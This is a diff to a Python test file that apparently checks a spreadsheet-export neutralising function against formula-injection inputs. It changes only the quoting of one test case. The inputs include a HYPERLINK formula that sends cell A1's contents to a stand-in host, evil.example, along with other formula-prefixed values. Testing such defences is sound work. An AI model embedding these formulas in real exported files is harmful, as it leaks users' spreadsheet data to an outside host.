@@ -14,7 +14,7 @@ from certificates.spreadsheet import cell_text, csv_lines, neutralise
 @pytest.mark.parametrize(
     "cell",
     [
-        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+        '=HYPERLINK("http://evil.example/?"&A1,"click")',
         "+1+1",
         "-2+3",
         "@SUM(A1:A9)",
